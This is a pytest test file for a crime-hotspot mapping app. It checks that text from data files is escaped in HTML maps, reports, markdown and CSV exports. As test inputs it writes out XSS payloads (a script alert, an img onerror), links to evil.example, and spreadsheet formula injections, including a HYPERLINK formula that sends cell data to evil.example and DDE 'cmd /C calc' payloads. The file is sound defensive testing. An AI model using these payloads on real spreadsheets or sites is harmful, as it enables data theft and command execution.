"""Text from data files is shown as text in every HTML output, never run."""

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from bs4 import BeautifulSoup
from shapely.geometry import box

from app import maps
from app.patrol_pack import patrol_pack_html
from geo.change import ward_change
from geo.hotspots import hotspots
from geo.periods import parse_period
from geo.settings import WORKING_CRS
from tests.conftest import ORIGIN

SCRIPT = "<script>alert('x')</script>"
IMG = '"><img src=x onerror=alert(1)>'


@pytest.fixture
def hostile():
    """Twenty incidents at one point whose Location is a script; a ward named IMG."""
    ox, oy = ORIGIN
    inc = gpd.GeoDataFrame(
        {
            "month": ["2022-01"] * 20 + ["2023-01"] * 20,
            "crime_type": [SCRIPT] * 40,
            "location": [f"On or near {SCRIPT}"] * 40,
            "ward_code": ["A"] * 40,
            "ward_name": [IMG] * 40,
        },
        geometry=gpd.points_from_xy([ox + 50] * 40, [oy + 50] * 40),
        crs=WORKING_CRS,
    )
    wards = gpd.GeoDataFrame(
        {"ward_code": ["A"], "ward_name": [IMG]},
        geometry=[box(ox, oy, ox + 100, oy + 100)],
        crs=WORKING_CRS,
    )
    return inc, wards


def _assert_inert(html: str) -> None:
    soup = BeautifulSoup(html, "html.parser")
    assert not any("alert(" in (s.string or "") and "<script>" in (s.string or "")
                   for s in soup.find_all("script"))  # fmt: skip
    assert not soup.find_all("img", attrs={"onerror": True})
    assert SCRIPT not in html
    assert IMG not in html


def test_hotspot_map_escapes(hostile):
    inc, wards = hostile
    table = hotspots(inc, eps=100, min_samples=5).table
    assert SCRIPT in table["streets"].iloc[0]  # the raw text is in the data...
    html = maps.hotspot_map(table, incidents=inc, wards=wards).get_root().render()
    _assert_inert(html)  # ...but never reaches the page raw
    # escaped once by us; folium's JSON then writes "&" as \u0026
    assert "\\u0026lt;script\\u0026gt;" in html


def test_hotspot_map_names_what_is_counted(hostile):
    inc, _ = hostile
    table = hotspots(inc, eps=100, min_samples=5).table
    for unit, other in [("reports", "Incidents"), ("incidents", "Reports")]:
        html = maps.hotspot_map(table, unit=unit).get_root().render()
        assert f'"{unit.capitalize()}"' in html
        assert f'"{other}"' not in html


def test_ward_map_escapes(hostile):
    inc, wards = hostile
    change = ward_change(
        inc, wards, before=parse_period("2022-01"), after=parse_period("2023-01")
    )
    html = maps.ward_map(wards, change.table, column="change", caption=IMG,
                         diverging=True).get_root().render()  # fmt: skip
    _assert_inert(html)


def test_displacement_and_camera_maps_escape(hostile):
    inc, wards = hostile
    table = hotspots(inc, eps=100, min_samples=5).table
    matched = table.assign(period="before", status="persistent", before_incidents=1,
                           after_incidents=1, matched_id=1, shift_m=np.nan)  # fmt: skip
    _assert_inert(maps.displacement_map(matched, wards=wards).get_root().render())
    views = gpd.GeoDataFrame(
        {"camera_id": [SCRIPT], "location": [IMG], "range_m": [50.0],
         "bearing": [np.nan], "fov": [np.nan], "install_date": [pd.NaT]},
        geometry=[box(*ORIGIN, ORIGIN[0] + 10, ORIGIN[1] + 10)], crs=WORKING_CRS,
    )  # fmt: skip
    cov = table.assign(covered_share=0.0, cameras=SCRIPT)
    _assert_inert(maps.camera_map(views, cov, wards=wards).get_root().render())


def test_patrol_pack_escapes(hostile):
    inc, wards = hostile
    table = hotspots(inc, eps=100, min_samples=5).table
    html = patrol_pack_html(table, title=SCRIPT, subtitle=IMG, notes=[SCRIPT],
                            wards=wards, synthetic_label=IMG)  # fmt: skip
    _assert_inert(html)
    soup = BeautifulSoup(html, "html.parser")
    assert SCRIPT in soup.get_text()  # shown as text


def test_patrol_pack_names_what_is_counted(hostile):
    from app.exports import patrol_pack
    from geo.patrol import patrol_hotspots

    inc, wards = hostile
    asb = inc.assign(crime_type="Anti-social behaviour")
    for frame, unit in [(asb, "Reports"), (inc, "Offences")]:
        result = patrol_hotspots(frame, eps=100, min_samples=5)
        soup = BeautifulSoup(patrol_pack(result, wards=wards), "html.parser")
        assert [th.get_text() for th in soup("th")][:2] == ["Rank", unit]
        assert f"{unit.lower()}; hotspots ranked by {unit.lower()}" in soup.get_text()
        assert f"hold 40 of 40 {unit.lower()}." in soup.get_text()  # both months


def test_cctv_brief_escapes(hostile):
    from app.brief import brief_html
    from geo.cctv import impact

    inc, wards = hostile
    months = [f"2022-{m:02d}" for m in range(1, 13)] + ["2023-01", "2023-02"]
    inc = pd.concat([inc.iloc[[0]].assign(month=m) for m in months] * 25,
                    ignore_index=True)  # fmt: skip
    cams = gpd.GeoDataFrame(
        {"camera_id": [SCRIPT], "location": [IMG], "range_m": [80.0],
         "bearing": [np.nan], "fov": [np.nan],
         "install_date": pd.to_datetime(["2022-07-01"])},
        geometry=gpd.points_from_xy([ORIGIN[0] + 50], [ORIGIN[1] + 50]),
        crs=WORKING_CRS,
    )  # fmt: skip
    result = impact(inc, cams, go_live="2022-07", months=6)
    html = brief_html(result, cams, wards=wards, source=SCRIPT)
    _assert_inert(html)
    assert SCRIPT in BeautifulSoup(html, "html.parser").get_text()


def test_years_small_multiples_and_tables_take_any_ward_name(hostile):
    from app import tables
    from app.figures import years_small_multiples_png
    from geo.years import year_periods, years_change

    inc, wards = hostile
    years = year_periods("2022", "2023", calendar=True)
    result = years_change(inc, wards, years)
    assert years_small_multiples_png(result.table, result.labels).startswith(b"\x89PNG")
    html = tables.years_table(result).to_html()  # pandas escapes by default
    _assert_inert(html)


@pytest.mark.parametrize(
    ("text", "live"),
    [
        ("[Reported by](http://evil.example/x)", "a"),
        ("![pixel](http://evil.example/p.png)", "img"),
        ("<b>bold</b> **strong** _em_", "b"),
        ("see www.evil.example or http://evil.example", "a"),
    ],
)
def test_data_text_shown_in_the_app_is_never_markdown(text, live):
    """What Streamlit's markdown makes of ui.plain(text): the text, and no element."""
    from markdown_it import MarkdownIt

    from app.ui import plain

    md = MarkdownIt("gfm-like", {"linkify": True, "html": True})
    assert BeautifulSoup(md.render(text), "html.parser").find(live) is not None
    html = md.render(plain(text))
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find(["a", "img", "b", "strong", "em"]) is None
    assert soup.get_text().strip() == text


FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1")  # fmt: skip


def test_no_csv_cell_the_tool_writes_starts_a_formula(tmp_path, write_police, wards):
    """Hostile Location, crime type and ward name through every CSV command."""
    import csv

    from app.cli import main
    from tests.conftest import police_row

    rows = [
        police_row(
            30 + (i % 3), 50, month=month, Location=FORMULAS[i % 5],
            **{"Crime type": FORMULAS[1] if i % 2 else "Anti-social behaviour"},
        )
        for month in ("2022-01", "2023-01")
        for i in range(60)
    ]  # fmt: skip
    police = write_police(rows, "2022-01-test-street.csv")
    ward_file = tmp_path / "w.geojson"
    wards.assign(ward_name=[FORMULAS[2], FORMULAS[0]]).to_crs("EPSG:4326").to_file(
        ward_file
    )
    cams = tmp_path / "cams.csv"
    cams.write_text(
        "camera_id,location,easting,northing,range_m\n"
        f'{FORMULAS[2]},"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",'
        f"{ORIGIN[0] + 30},{ORIGIN[1] + 50},50\n"
    )
    common = [str(police), "--wards", str(ward_file)]
    outs = {
        "load": ["load", *common, "--out"],
        "hotspots": ["hotspots", *common, "--eps", "50", "--min-samples", "5",
                     "--out"],
        "wards": ["wards", *common, "--before", "2022", "--after", "2023", "--out"],
        "years": ["years", *common, "--from", "2022", "--to", "2023", "--calendar",
                  "--out"],
        "coverage": ["coverage", *common, "--cameras", str(cams), "--out"],
    }  # fmt: skip
    seen = 0
    for name, argv in outs.items():
        out = tmp_path / f"{name}.csv"
        assert main([*argv, str(out)]) == 0, name
        with out.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                        float(cell)  # a number (-3.05), never a formula
                    seen += cell.startswith("'") and cell[1:] in FORMULAS
    assert seen >= 5  # the hostile texts were written, made inert


def test_the_register_downloads_with_its_dates(tmp_path):
    """The register's GeoJSON once a camera has an install date (it had raised)."""
    import json

    from app import exports
    from geo.workspace import Workspace

    cams = tmp_path / "cams.csv"
    cams.write_text(
        "camera_id,easting,northing,install_date\n"
        f"C1,{ORIGIN[0]},{ORIGIN[1]},2022-10-01\nC2,{ORIGIN[0] + 50},{ORIGIN[1]},\n"
    )
    ws = Workspace(tmp_path / "w.duckdb")
    ws.import_cameras(cams)
    layer = json.loads(exports.geojson_bytes(ws.cameras()))
    dates = {f["properties"]["camera_id"]: f["properties"]["install_date"]
             for f in layer["features"]}  # fmt: skip
    assert dates == {"C1": "2022-10-01", "C2": None}
